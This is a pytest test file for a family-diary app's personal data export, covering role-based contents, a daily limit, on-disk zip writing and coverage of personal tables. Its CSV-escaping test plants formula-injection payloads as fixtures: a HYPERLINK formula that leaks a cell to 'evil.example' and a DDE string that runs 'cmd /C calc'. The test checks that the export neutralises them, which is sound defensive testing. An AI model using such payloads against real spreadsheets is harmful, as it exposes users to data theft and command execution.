"""Download everything: what each role gets, the daily limit, formula-safe CSV, written to
disk (never built in memory), and no personal table forgotten."""
from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import tracemalloc
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import Column, ForeignKey, Integer, MetaData, String, Table, func, select

import clock
import db
from content import library
from diary import accounts, invitations, registration
from journeys import defaults, engine
from journeys.models import (
    CampaignSend,
    Delivery,
    EmailClick,
    EmailPreference,
    InboxMessage,
    Suppression,
)
from recommender import log
from recommender.models import UnmatchedOrderLine
from tests.conftest import PASSWORD, load_all_models
from tests.web.helpers import entry_form, png_bytes
from tests.web.test_studio import make_item

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
#: The keys of data.json: the same for every role (viewers get empty family parts).
DOCUMENT_KEYS = {"exported_at", "account", "families", "entries", "invitations_sent",
                 "data_exports", "saved_items", "email_preferences", "email_suppression",
                 "inbox_messages", "deliveries", "email_clicks", "campaign_sends", "journeys",
                 "sign_ins", "account_emails", "interactions", "shop_order_lines_unmatched",
                 "customer_score", "due_follow_ups", "contact_history", "club_memberships",
                 "club_posts", "club_comments", "club_likes", "club_reports", "club_bans",
                 "tickets", "reward_points", "reward_redemptions", "surveys", "help_votes",
                 "timers", "vaccinations", "product_reviews", "api_tokens"}


def join(session, owner, family, user, role, relationship="other"):
    invitation = invitations.invite(session, family, owner, user.email, role, relationship)
    invitations.accept(session, invitation, user)
    session.commit()


def familyless(session, email):
    """A parent who joined through an invitation: no family of their own."""
    done = registration.register(session, registration.Registration(
        email=email, password=PASSWORD, profile=accounts.Profile(display_name=email[:5]),
        relationship="other", child_data_consent=True, digest_opt_in=False,
        marketing_opt_in=False, child=None), "test")
    done.user.email_verified_at = clock.utcnow()  # joining a family waits for a proven address
    session.commit()
    return done.user


def personal_rows(session, user, child):
    """One row in every per-person table, addressed to `user`."""
    delivery = Delivery(user_id=user.id, child_id=child.id, item_key="article:week-20",
                        channel="inbox", occurrence="j1:pw-20", status="sent",
                        payload={"item_id": None, "stage_key": "pw-20"})
    session.add(delivery)
    session.flush()
    session.add_all([
        InboxMessage(user_id=user.id, child_id=child.id, delivery_id=delivery.id,
                     stage_key="pw-20", title="Halfway", body="Twenty weeks!"),
        EmailClick(delivery_id=delivery.id, user_id=user.id, item_key="article:week-20",
                   url="/library/week-20"),
        CampaignSend(campaign="parent_birthday", user_id=user.id, child_id=0,
                     occurrence="2026", holdout=True, goal="visit"),
        EmailPreference(user_id=user.id, frequency="daily", send_hour=7, topics=["sleep"]),
        Suppression(email=user.email, reason="hard-bounce"),
    ])
    item = make_item(session, key=f"saved-{user.id}", title="Sleep tips")
    library.save_for_later(session, user, item)
    log.record(session, log.Event(kind="save", item_id=item.id, surface="child_page",
                                  idempotency_key=f"save-{user.id}", user_id=user.id,
                                  child_id=child.id, stage="month:3", position=2,
                                  request_id="r" * 32, occurred_at=datetime(2026, 11, 20,
                                                                            tzinfo=UTC)))
    session.add(UnmatchedOrderLine(
        order_line_id=f"L-{user.id}", reason="product", source="csv",
        ordered_at=datetime(2026, 11, 21, tzinfo=UTC), email=user.email, sku="GONE-1",
        quantity=1, amount_minor=990, currency="CNY", received_at=clock.utcnow()))
    session.add(UnmatchedOrderLine(  # someone else's
        order_line_id=f"M-{user.id}", reason="customer", source="csv",
        ordered_at=datetime(2026, 11, 21, tzinfo=UTC), email="stranger@example.com",
        sku="GONE-1", quantity=1, amount_minor=990, currency="CNY",
        received_at=clock.utcnow()))
    session.commit()


def export(client):
    response = client.post("/account/export")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return zipfile.ZipFile(io.BytesIO(response.data))


def read_csv(archive, name):
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


# --- what each role gets ---------------------------------------------------------------------

@pytest.fixture()
def household(session, make_family, login_as, client):
    """An owner (with a photo entry and a measurement), an editor and a viewer in one family."""
    owner, child = make_family(name="小米")
    owner.birthday = date(1990, 5, 17)
    editor = familyless(session, "editor@example.com")
    viewer = familyless(session, "viewer@example.com")
    join(session, owner, child.family, editor, "editor", "father")
    join(session, owner, child.family, viewer, "viewer", "grandparent")
    defaults.ensure_default_journey(session)
    engine.enrol(session, child)
    session.commit()
    login_as(owner)
    client.post(f"/children/{child.id}/entries/new?kind=photo",
                data=entry_form(title="公园", photos=[(io.BytesIO(png_bytes()), "a.png")]),
                content_type="multipart/form-data")
    client.post(f"/children/{child.id}/entries/new?kind=measurement",
                data=entry_form(weight="6.2", length="62"))
    for person in (owner, viewer):
        personal_rows(session, person, child)
    return owner, editor, viewer, child


def test_an_owner_gets_the_family_diary_and_every_personal_section(household, client,
                                                                     login_as, session):
    owner, _, _, child = household
    login_as(owner)
    archive = export(client)
    document = json.loads(archive.read("data.json"))
    entry_ids = sorted(e["id"] for e in document["entries"])
    photo = next(e for e in document["entries"] if e["kind"] == "photo")
    assert set(archive.namelist()) == {"README.txt", "data.json", "entries.csv",
                                       "children.csv", *photo["photos"]}
    assert photo["photos"] == [f"photos/child-{child.id}/entry-{photo['id']}-1.jpg"]
    assert archive.read(photo["photos"][0])[:3] == b"\xff\xd8\xff"
    assert archive.getinfo(photo["photos"][0]).compress_type == zipfile.ZIP_STORED
    assert set(document) == DOCUMENT_KEYS
    assert document["account"]["birthday"] == "1990-05-17"
    assert document["account"]["member_no"] == owner.member_no
    assert [c["kind"] for c in document["account"]["consents"]] == ["child_data", "digest",
                                                                     "marketing"]
    family = document["families"][0]
    assert (family["role"], family["diary_included"]) == ("owner", True)
    assert [c["name"] for c in family["children"]] == ["小米"]
    assert len(entry_ids) == 2
    assert [r["entry_id"] for r in read_csv(archive, "entries.csv")] == \
        [str(i) for i in sorted(entry_ids, key=lambda i: next(
            e["occurred_at"] for e in document["entries"] if e["id"] == i))]
    assert [r["name"] for r in read_csv(archive, "children.csv")] == ["小米"]
    assert [(m["title"], m["body"], m["stage_key"]) for m in document["inbox_messages"]] == \
        [("Halfway", "Twenty weeks!", "pw-20")]
    assert [(d["item_key"], d["channel"], d["status"]) for d in document["deliveries"]] == \
        [("article:week-20", "inbox", "sent")]
    assert [c["url"] for c in document["email_clicks"]] == ["/library/week-20"]
    assert [(c["campaign"], c["holdout"]) for c in document["campaign_sends"]] == \
        [("parent_birthday", True)]
    assert document["email_preferences"]["frequency"] == "daily"
    assert document["email_preferences"]["topics"] == ["sleep"]
    assert [s["reason"] for s in document["email_suppression"]] == ["hard-bounce"]
    assert [(s["key"], s["title"]) for s in document["saved_items"]] == \
        [(f"saved-{owner.id}", "Sleep tips")]
    assert [(j["child_id"], j["journey"]["slug"], j["status"]) for j in document["journeys"]] \
        == [(child.id, defaults.SLUG, "active")]
    assert {i["email"] for i in document["invitations_sent"]} == {"editor@example.com",
                                                                  "viewer@example.com"}
    assert len(document["data_exports"]) == 1  # this export
    assert document["sign_ins"] and set(document["sign_ins"][0]) == {
        "created_at", "expires_at", "last_seen_at", "revoked_at", "remember", "user_agent"}
    assert document["account"]["email_verified_at"] is not None
    assert document["interactions"] == [{
        "occurred_at": "2026-11-20T00:00:00+00:00", "kind": "save", "child_id": child.id,
        "stage": "month:3", "surface": "child_page", "position": 2, "model_version": None,
        "quantity": None, "amount_minor": None, "currency": None,
        "item": f"article:saved-{owner.id}"}]  # never the request id or the key
    assert [(o["order_line_id"], o["sku"]) for o in document["shop_order_lines_unmatched"]] \
        == [(f"L-{owner.id}", "GONE-1")]
    readme = archive.read("README.txt").decode()
    assert "entries.csv" in readme and "photos/" in readme


def test_an_editor_gets_the_family_diary_too(household, client, login_as):
    _, editor, _, _ = household
    login_as(editor)
    archive = export(client)
    document = json.loads(archive.read("data.json"))
    assert {"entries.csv", "children.csv"} <= set(archive.namelist())
    assert any(n.startswith("photos/") for n in archive.namelist())
    assert len(document["entries"]) == 2 and len(document["journeys"]) == 1
    assert document["inbox_messages"] == []  # the owner's messages are the owner's


def test_a_viewer_gets_their_own_data_not_the_family_diary(household, client, login_as):
    _, _, viewer, child = household
    login_as(viewer)
    archive = export(client)
    assert set(archive.namelist()) == {"README.txt", "data.json"}
    document = json.loads(archive.read("data.json"))
    assert set(document) == DOCUMENT_KEYS
    assert document["families"] == [{
        "family_id": child.family.id, "name": child.family.name,
        "timezone": child.family.timezone, "role": "viewer", "relationship": "grandparent",
        "joined_at": document["families"][0]["joined_at"], "diary_included": False}]
    assert document["entries"] == [] and document["journeys"] == []
    assert "小米" not in archive.read("data.json").decode()
    assert [m["title"] for m in document["inbox_messages"]] == ["Halfway"]  # their own
    assert [s["key"] for s in document["saved_items"]] == [f"saved-{viewer.id}"]
    # their own interactions (with the child they looked at), not the owner's
    assert [(i["item"], i["child_id"]) for i in document["interactions"]] == \
        [(f"article:saved-{viewer.id}", child.id)]
    assert [o["order_line_id"] for o in document["shop_order_lines_unmatched"]] == \
        [f"L-{viewer.id}"]
    assert document["account"]["email"] == "viewer@example.com"
    assert "not an owner or editor" in archive.read("README.txt").decode()


def test_the_account_page_says_what_a_viewer_gets_and_the_limit(make_family, login_as,
                                                                client):
    user, _ = make_family()
    login_as(user)
    page = client.get("/account").get_data(as_text=True)
    assert "In a family where you are a viewer, the download has your own details but not " \
           "the family's diary and photos" in page
    assert "You can download your data 3 times in 24 hours." in page


# --- formula-safe CSV ------------------------------------------------------------------------

def test_a_formula_planted_by_a_co_caregiver_comes_out_as_text(household, client, login_as,
                                                                 session):
    owner, editor, _, child = household
    editor.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    child.name = "-2+3"
    session.commit()
    login_as(editor)
    assert client.post(f"/children/{child.id}/entries/new?kind=note",
                       data=entry_form(title=FORMULA, body="+1+1\n-2")).status_code == 302
    login_as(owner)
    archive = export(client)
    rows = read_csv(archive, "entries.csv")
    planted = next(r for r in rows if r["title"].endswith('"Click")'))
    assert planted["title"] == "'" + FORMULA
    assert planted["body"] == "'+1+1\n-2"
    assert planted["author"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r"))
               for r in rows for v in r.values())
    assert [r["name"] for r in read_csv(archive, "children.csv")] == ["'-2+3"]
    assert {r["child_name"] for r in rows} == {"'-2+3"}
    document = json.loads(archive.read("data.json"))  # JSON keeps what was typed
    assert FORMULA in {e["title"] for e in document["entries"]}


# --- the daily limit -------------------------------------------------------------------------

def exports_of(session, user):
    table = db.Base.metadata.tables["data_exports"]
    return session.scalar(select(func.count()).select_from(table)
                          .where(table.c.user_id == user.id))


@pytest.mark.clock_at("2026-11-23T04:00")
def test_the_fourth_export_in_a_day_is_refused_and_others_are_not_affected(
        make_family, login_as, client, session, clock_at):
    user, _ = make_family()
    other, _ = make_family()
    login_as(user)
    assert client.post("/account/export").status_code == 200  # 04:00 UTC
    clock_at("2026-11-23T10:00")
    assert client.post("/account/export").status_code == 200
    clock_at("2026-11-23T16:00")
    assert client.post("/account/export").status_code == 200
    clock_at("2026-11-23T20:00")
    refused = client.post("/account/export")
    assert refused.status_code == 429 and refused.mimetype == "text/html"
    text = refused.get_data(as_text=True)
    # the oldest of the three (04:00 UTC) is a day old at 04:00 UTC, 12:00 in Shanghai
    assert re.search(r"You can download your data 3 times in 24 hours\. You can download it "
                     r"again from Nov 24, 2026 12:00\W*PM\.", text), text[:200]
    assert exports_of(session, user) == 3
    login_as(other)  # someone else is not affected
    assert client.post("/account/export").status_code == 200
    clock_at("2026-11-24T04:01")  # the first export is more than 24 hours old: one more
    login_as(user)
    assert client.post("/account/export").status_code == 200
    again = client.post("/account/export").get_data(as_text=True)
    assert re.search(r"again from Nov 24, 2026 6:00\W*PM\.", again)  # 10:00 UTC + 1 day
    assert exports_of(session, user) == 4


def test_a_failed_export_does_not_count(make_family, login_as, client, session, monkeypatch):
    from diary import privacy

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(privacy, "write_export", broken)
    user, _ = make_family()
    login_as(user)
    with pytest.raises(OSError):
        client.post("/account/export")
    session.expire_all()
    assert session.scalar(select(func.count()).select_from(
        db.Base.metadata.tables["data_exports"])) == 0


# --- written to disk, never held in memory ---------------------------------------------------

class TestOnDisk:
    @pytest.fixture()
    def app_overrides(self, tmp_path):
        return {"EXPORT_TMP_DIR": str(tmp_path / "exports")}

    def test_the_zip_is_written_to_a_temporary_file_that_is_gone_after(
            self, make_family, login_as, client, app, tmp_path, monkeypatch):
        from diary import privacy
        folder = tmp_path / "exports"
        seen = []
        original = privacy.write_export

        def spy(session, user, store, target, registry, **kwargs):
            names = original(session, user, store, target, registry, **kwargs)
            seen.append((Path(target), os.path.getsize(target)))
            assert zipfile.ZipFile(target).namelist() == names  # a whole zip, on disk
            return names

        monkeypatch.setattr(privacy, "write_export", spy)
        user, child = make_family()
        login_as(user)
        client.post(f"/children/{child.id}/entries/new?kind=photo",
                    data=entry_form(photos=[(io.BytesIO(png_bytes()), "a.png")]),
                    content_type="multipart/form-data")
        response = client.post("/account/export")
        [(path, size)] = seen
        assert path.parent == folder and size > 0
        assert not path.exists()  # unlinked before sending: nothing stays behind
        assert response.content_length == size and len(response.data) == size
        assert response.headers["Cache-Control"] == "no-store"
        response.close()
        assert list(folder.iterdir()) == []

    def test_a_big_photo_is_streamed_not_held_in_memory(self, make_family, login_as, client,
                                                       app, session):
        from diary.models import Photo
        user, child = make_family()
        login_as(user)
        client.post(f"/children/{child.id}/entries/new?kind=photo",
                    data=entry_form(photos=[(io.BytesIO(png_bytes()), "a.png")]),
                    content_type="multipart/form-data")
        photo = session.scalar(select(Photo))
        big = os.urandom(8 * 1024 * 1024)
        app.extensions["photo_store"].path(photo.storage_key, "full").write_bytes(big)
        del big
        tracemalloc.start()
        try:
            response = client.post("/account/export", buffered=False)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert response.status_code == 200
        assert response.content_length > 8 * 1024 * 1024
        assert peak < 3 * 1024 * 1024, peak  # the 8 MB photo never sat in memory
        response.close()


# --- nothing personal is forgotten -----------------------------------------------------------

PERSONAL_COLUMNS = {"user_id", "child_id", "family_id", "email"}
PERSONAL_TABLES = {"users", "children", "families", "entries"}


def personal_tables(metadata: MetaData) -> set[str]:
    """Tables with a column about a person, a child or a family, or a key into one."""
    found = set()
    for table in metadata.sorted_tables:
        for column in table.columns:
            if column.name in PERSONAL_COLUMNS or column.name.endswith("_user_id") or any(
                    fk.column.table.name in PERSONAL_TABLES for fk in column.foreign_keys):
                found.add(table.name)
    return found


def test_every_table_about_people_is_exported_or_declared_not_personal(app):
    load_all_models()
    registry = app.extensions["export_registry"]
    tables = set(db.Base.metadata.tables)
    covered, declared = registry.covered_tables(), set(registry.not_personal)
    missing = personal_tables(db.Base.metadata) - covered - declared
    assert missing == set(), f"add these tables to an export section or declare them: {missing}"
    assert covered <= tables and declared <= tables  # no stale names
    assert covered & declared == set()
    assert all(len(reason) > 20 for reason in registry.not_personal.values())


def test_the_coverage_rule_notices_a_new_table():
    metadata = MetaData()
    Table("users", metadata, Column("id", Integer, primary_key=True))
    Table("children", metadata, Column("id", Integer, primary_key=True))
    Table("interactions", metadata, Column("id", Integer, primary_key=True),
          Column("user_id", Integer), Column("product", String(20)))
    Table("notes", metadata, Column("id", Integer, primary_key=True),
          Column("about", Integer, ForeignKey("children.id")))
    Table("products", metadata, Column("id", Integer, primary_key=True))
    assert personal_tables(metadata) == {"interactions", "notes"}


def test_diary_never_imports_journeys_or_content():
    for path in (ROOT / "diary").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else \
                [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            for name in names:
                assert name.split(".")[0] not in {"journeys", "content", "webapp", "flask"}, \
                    f"{path.relative_to(ROOT)} imports {name}"


def test_only_a_signed_in_post_exports_and_only_ones_own_families(client, make_family,
                                                                    login_as, session):
    response = client.post("/account/export")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    stranger, theirs = make_family(name="Stranger's baby")
    user, _ = make_family()
    login_as(user)
    assert client.get("/account/export").status_code == 405
    assert client.open("/account/export", method="HEAD").status_code == 405
    archive = export(client)
    data = archive.read("data.json").decode()
    assert "Stranger's baby" not in data and stranger.email not in data
    assert exports_of(session, stranger) == 0


def test_the_download_lists_api_tokens_without_their_secrets(household, client, login_as,
                                                             session):
    from diary import access_tokens
    _, editor, _, _ = household
    token, secret = access_tokens.create(session, editor, "Phone", "write", 30)
    session.commit()
    login_as(editor)
    raw = export(client).read("data.json")
    assert [(t["name"], t["scope"], t["revoked_at"]) for t in json.loads(raw)["api_tokens"]] \
        == [("Phone", "write", None)]
    assert secret.encode() not in raw and token.token_hash.encode() not in raw
